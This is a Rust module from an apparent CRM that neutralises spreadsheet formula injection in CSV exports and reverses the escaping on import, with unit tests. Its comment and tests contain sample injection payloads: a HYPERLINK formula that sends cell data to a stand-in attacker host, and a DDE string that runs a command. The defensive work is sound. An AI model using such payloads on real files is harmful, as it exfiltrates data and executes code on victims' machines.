//! CSV cells that are safe to open in a spreadsheet, and read back unchanged.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a
//! formula to Excel, LibreOffice and Google Sheets: an exported customer named
//! `=HYPERLINK("http://evil.example/?"&A1,"c")` would send the sheet's data away
//! when opened. Every CSV the CRM writes goes through [`cell`], which prefixes
//! such a cell with a single quote (OWASP's advice: the spreadsheet shows the text,
//! not a formula); the import goes through [`uncell`], which removes exactly that
//! prefix, so an exported file imports back as it was (`+8613800000000` stays a
//! phone number) and nothing else is altered. A value that starts with a quote
//! gets one more, so it too comes back as it was. The export also quotes every
//! cell, so a spreadsheet that splits on `;` (many European locales) never sees
//! a cell start in the middle of a value.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// A value as a CSV cell: prefixed with `'` when it would be read as a formula,
/// or when it starts with `'` itself (so that [`uncell`], which removes one
/// quote, gives it back as it was).
pub fn cell(value: &str) -> Cow<'_, str> {
    if value.starts_with(TRIGGERS) || value.starts_with('\'') {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// A CSV cell as a value: the `'` that [`cell`] adds is removed where it
/// precedes one of the formula characters or another quote; anything else is
/// kept as given.
pub fn uncell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) || rest.starts_with('\'') => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_read_back_unchanged() {
        for v in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "+8613800000000",
            "'=1+1",
            "'plain",
        ] {
            let c = cell(v);
            assert!(c.starts_with('\''), "{v:?} was not neutralised");
            assert_eq!(uncell(&c), v);
        }
    }

    #[test]
    fn other_cells_pass_unchanged_both_ways() {
        for v in ["Acme", "张伟", " padded ", ""] {
            assert_eq!(cell(v), v);
            assert_eq!(uncell(v), v);
        }
    }
}
